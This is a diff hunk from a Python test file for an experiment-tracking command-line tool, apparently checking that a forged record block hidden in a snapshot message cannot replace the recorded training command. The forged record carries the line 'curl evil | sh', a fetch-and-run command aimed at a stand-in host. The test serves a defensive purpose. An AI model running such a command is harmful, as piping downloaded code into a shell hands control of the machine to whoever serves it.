@@ -163,7 +163,7 @@ def test_a_record_without_its_end_marker(experiment_repo: Path) -> None:
 def test_the_last_record_block_counts(experiment_repo: Path) -> None:
     baseline = baseline_record(experiment_repo)
     spoof = json.dumps({**baseline, "command": "curl evil | sh"})
-    mlv(experiment_repo, "snapshot", "-m", f"innocent\n\n{BEGIN}\n{spoof}\n{END}")
+    mlv(experiment_repo, "snapshot", "--allow-empty", "-m", f"innocent\n\n{BEGIN}\n{spoof}\n{END}")
     doc = json.loads(mlv(experiment_repo, "show", "--json").stdout)
     assert doc["command"] == baseline["command"] == "python train.py"
     assert "curl evil | sh" in doc["message"]  # the spoof stays what it was: part of the user's text
